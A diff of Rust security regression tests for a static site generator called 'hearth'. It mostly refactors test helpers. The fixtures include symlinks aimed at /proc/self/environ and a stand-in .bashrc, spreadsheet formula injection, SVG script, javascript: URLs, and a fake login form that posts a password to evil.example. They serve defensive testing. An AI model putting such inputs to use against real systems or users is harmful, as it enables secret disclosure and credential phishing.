@@ -4,20 +4,20 @@
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-mod common;
-
+use crate::common;
+use crate::common::site::TestSite;
 use std::fs;
 use std::path::Path;
 use std::time::{Duration, Instant};
 
-use common::serve::http_server;
-use common::trust::{link, output_contains, secret};
-use common::{minimal, run, snapshot, write};
+use crate::common::serve::http_server;
+use crate::common::trust::{link, output_contains, secret};
+use crate::common::{run, snapshot, write};
 
 // 1. The output folder is deleted whatever it holds.
 #[test]
 fn an_output_folder_hearth_did_not_write_is_refused_and_kept() {
-    let site = minimal();
+    let site = TestSite::minimal();
     let victim = site.path().parent().unwrap().join(format!(
         "victim-{}",
         site.path().file_name().unwrap().to_string_lossy()
@@ -85,7 +85,7 @@ fn an_output_folder_hearth_did_not_write_is_refused_and_kept() {
 // 20. `-o SITE/.hearth-cache` replaced the cache.
 #[test]
 fn the_cache_and_the_home_folder_are_never_an_output() {
-    let site = minimal();
+    let site = TestSite::minimal();
     assert_eq!(run(&["build", "."], site.path()).code, 0);
     let r = run(&["build", ".", "-o", ".hearth-cache"], site.path());
     assert_eq!(r.code, 2, "{}", r.stderr);
@@ -103,7 +103,7 @@ fn the_cache_and_the_home_folder_are_never_an_output() {
 // 2. Symlinks were followed and published (`avatar: zed.png -> /proc/self/environ`).
 #[test]
 fn an_avatar_linked_out_of_the_site_is_an_error_and_never_published() {
-    let site = common::community();
+    let site = TestSite::community();
     link(
         Path::new("/proc/self/environ"),
         &site.path().join("members/zed.png"),
@@ -142,7 +142,7 @@ fn a_links_file_site_yaml_or_guideline_linked_out_is_named_not_shown() {
         "site.yaml",
         "content/about.md",
     ] {
-        let site = common::community();
+        let site = TestSite::community();
         let (_keep, secret) = secret();
         let path = site.path().join(at);
         let _ = fs::remove_file(&path);
@@ -163,7 +163,7 @@ fn a_links_file_site_yaml_or_guideline_linked_out_is_named_not_shown() {
         );
     }
     // A whole folder linked out is refused the same way.
-    let site = common::community();
+    let site = TestSite::community();
     let outside = tempfile::tempdir().unwrap();
     fs::write(
         outside.path().join("leak.yaml"),
@@ -181,7 +181,7 @@ fn a_links_file_site_yaml_or_guideline_linked_out_is_named_not_shown() {
 // 4. `.hearth-cache` entries were trusted through symlinks.
 #[test]
 fn cache_entries_and_folders_are_never_followed_through_links() {
-    let site = common::community();
+    let site = TestSite::community();
     write(
         site.path(),
         "content/code.md",
@@ -231,7 +231,7 @@ fn cache_entries_and_folders_are_never_followed_through_links() {
 // 4. `external.json -> ~/.bashrc` was overwritten by `check --external`.
 #[test]
 fn check_external_never_writes_through_a_planted_cache_link() {
-    let site = minimal();
+    let site = TestSite::minimal();
     let victim_dir = tempfile::tempdir().unwrap();
     let victim = victim_dir.path().join("bashrc");
     fs::write(&victim, "export KEEP=1\n").unwrap();
@@ -258,7 +258,7 @@ fn check_external_never_writes_through_a_planted_cache_link() {
 // 5. `serve` checked symlinks only on the first build.
 #[test]
 fn serve_never_serves_a_file_swapped_for_a_link_while_serving() {
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "static/favicon.svg",
@@ -282,7 +282,7 @@ fn serve_never_serves_a_file_swapped_for_a_link_while_serving() {
 // 6. A title starting with `=` became a spreadsheet formula in posts.csv.
 #[test]
 fn posts_csv_cells_cannot_become_formulas() {
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "content/news/2026-11-03-evil.md",
@@ -302,7 +302,7 @@ fn posts_csv_cells_cannot_become_formulas() {
 // 7. SVG avatars were copied with their `<script>` and `onload`.
 #[test]
 fn svg_avatars_are_published_without_anything_active() {
-    let site = common::community();
+    let site = TestSite::community();
     write(
         site.path(),
         "members/zed.svg",
@@ -325,7 +325,7 @@ fn svg_avatars_are_published_without_anything_active() {
 // 8. Control characters made the feeds invalid XML while the build said fine.
 #[test]
 fn control_characters_are_an_error_at_the_key_that_holds_them() {
-    let site = common::community();
+    let site = TestSite::community();
     write(
         site.path(),
         "links/reading.yaml",
@@ -336,7 +336,7 @@ fn control_characters_are_an_error_at_the_key_that_holds_them() {
     assert!(r.stderr.contains("links/reading.yaml:3:"), "{}", r.stderr);
     assert!(r.stderr.contains("U+0007"), "{}", r.stderr);
 
-    let site = common::community();
+    let site = TestSite::community();
     write(
         site.path(),
         "content/about.md",
@@ -355,7 +355,7 @@ fn control_characters_are_an_error_at_the_key_that_holds_them() {
 // 9. Sanitized bios kept id/class, form controls and remote tracking images.
 #[test]
 fn sanitized_bios_and_pages_lose_ids_classes_forms_and_trackers() {
-    let site = common::community();
+    let site = TestSite::community();
     let bio = "<div id=\"hearth-problem\" class=\"site-header\" style=\"position:fixed\">Fake</div>\n\n<form action=\"https://evil.example/\"><input type=\"password\" name=\"pw\"><button>Log in</button></form>\n\n![pixel](https://tracker.example/p.gif)\n\n## Hello\n";
     write(
         site.path(),
@@ -406,7 +406,7 @@ fn sanitized_bios_and_pages_lose_ids_classes_forms_and_trackers() {
 // 10. `event.url: javascript:…` was published in the page and the .ics.
 #[test]
 fn an_event_url_must_be_http_or_https() {
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "content/call.md",
@@ -418,7 +418,7 @@ fn an_event_url_must_be_http_or_https() {
     assert!(r.stderr.contains("javascript:"), "{}", r.stderr);
 
     // Where it makes sense (a profile's contact links), mailto is fine too.
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "members/ada.md",
@@ -432,7 +432,7 @@ fn an_event_url_must_be_http_or_https() {
 #[test]
 fn a_name_that_leaves_no_slug_is_an_error() {
     for path in ["guidelines/???.md", "content/news/!!!.md"] {
-        let site = common::community();
+        let site = TestSite::community();
         write(site.path(), path, "---\ntitle: Nameless\n---\n## Rule\n");
         let r = run(&["build", "."], site.path());
         assert_eq!(r.code, 1, "{path}: {}", r.stderr);
@@ -444,7 +444,7 @@ fn a_name_that_leaves_no_slug_is_an_error() {
 // 12. A 60-word link title or a 300-character tag failed with `File name too long`.
 #[test]
 fn long_titles_and_tags_get_short_stable_file_names() {
-    let site = common::community();
+    let site = TestSite::community();
     let title = "word ".repeat(60);
     let tag = "t".repeat(300);
     write(
@@ -471,7 +471,7 @@ fn long_titles_and_tags_get_short_stable_file_names() {
 // 13. A UTF-8 byte-order mark gave false errors.
 #[test]
 fn a_byte_order_mark_is_not_content() {
-    let site = common::community();
+    let site = TestSite::community();
     for file in [
         "site.yaml",
         "links/reading.yaml",
@@ -489,7 +489,7 @@ fn a_byte_order_mark_is_not_content() {
 // dropped silently, follow-on errors.
 #[test]
 fn silent_losses_are_located_errors_without_follow_ons() {
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "content/news/2026-13-45-post.md",
@@ -504,7 +504,7 @@ fn silent_losses_are_located_errors_without_follow_ons() {
     );
     assert!(r.stderr.contains("not a date"), "{}", r.stderr);
 
-    let site = minimal();
+    let site = TestSite::minimal();
     write(
         site.path(),
         "content/about.md",
@@ -514,7 +514,7 @@ fn silent_losses_are_located_errors_without_follow_ons() {
     assert_eq!(r.code, 1, "{}", r.stderr);
     assert!(r.stderr.contains("content/about.md:3:7"), "{}", r.stderr);
 
-    let site = common::community();
+    let site = TestSite::community();
     write(
         site.path(),
         "content/draft.md",
@@ -550,7 +550,7 @@ fn silent_losses_are_located_errors_without_follow_ons() {
     );
 
     // One broken member file is one error, not one more in the links file.
-    let site = common::community();
+    let site = TestSite::community();
     write(site.path(), "members/ada.md", "---\nname: [broken\n---\n");
     let r = run(&["build", "."], site.path());
     assert_eq!(r.code, 1, "{}", r.stderr);
@@ -564,7 +564,7 @@ fn silent_losses_are_located_errors_without_follow_ons() {
 // made a file wherever it pointed) and read and rewrote a links file linked out.
 #[test]
 fn hearth_new_never_writes_or_reads_through_a_link() {
-    let site = common::community();
+    let site = TestSite::community();
     let outside = tempfile::tempdir().unwrap();
     let target = outside.path().join("planted.md");
     link(&target, &site.path().join("members/zed.md"));
